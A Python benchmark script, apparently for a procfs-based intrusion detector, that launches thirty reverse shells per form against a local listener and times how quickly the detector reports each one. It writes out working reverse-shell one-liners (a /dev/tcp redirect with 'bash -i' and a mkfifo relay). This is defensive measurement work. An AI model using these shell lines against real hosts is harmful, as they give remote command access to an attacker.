"""From the start of a shell to its finding in the file, with procfs alone."""

from __future__ import annotations

import os
import socket
import statistics
import subprocess
import time

import rig

SHELLS = 30
FORMS = {
    "direct": "exec bash -i <&3 >&3 2>&3",
    "relayed": "rm -f f; mkfifo f; cat f | sh 2>&1 | cat >&3 & exec cat <&3 >f",
}


def _one(running: rig.Rig, form: str, number: int) -> float:
    """Return milliseconds from the connection's arrival to the finding."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(5)
        port = listener.getsockname()[1]
        code = f"cd {running.folder}/work{number}; exec 3<>/dev/tcp/127.0.0.1/{port}; {FORMS[form]}"
        work = running.folder / f"work{number}"
        work.mkdir()
        if os.geteuid() == 0:
            os.chown(work, rig.USER, rig.USER)
        shell = subprocess.Popen([*rig.as_user(), "bash", "-c", code], start_new_session=True, stdin=subprocess.DEVNULL)
        connection, _ = listener.accept()
        begin = time.monotonic()
        try:
            connection.sendall(b"echo hello\n")
            while time.monotonic() < begin + 5:
                if any(_is_about(finding, port) for finding in running.findings()):
                    return 1000 * (time.monotonic() - begin)
                time.sleep(0.002)
            return float("inf")
        finally:
            connection.close()
            os.killpg(shell.pid, 9)
            shell.wait()


def _is_about(finding: dict, port: int) -> bool:
    return any(evidence.get("dst_endpoint", {}).get("port") == port for evidence in finding["evidences"])


def measure() -> list[tuple]:
    """Return medians and 99th percentiles for direct and relayed shells."""
    rows: list[tuple] = []
    with rig.agent() as running:
        for offset, form in enumerate(FORMS):
            print(f"latency: {SHELLS} {form} shells ...", flush=True)
            times = []
            for number in range(SHELLS):
                times.append(_one(running, form, 1000 * offset + number))
                time.sleep(0.3)
            times.sort()
            goal = 400.0
            rows.append((f"{form} shell to finding, median", statistics.median(times), "ms", goal))
            rows.append((f"{form} shell to finding, slowest of {SHELLS}", times[-1], "ms", 2500.0))
    return rows
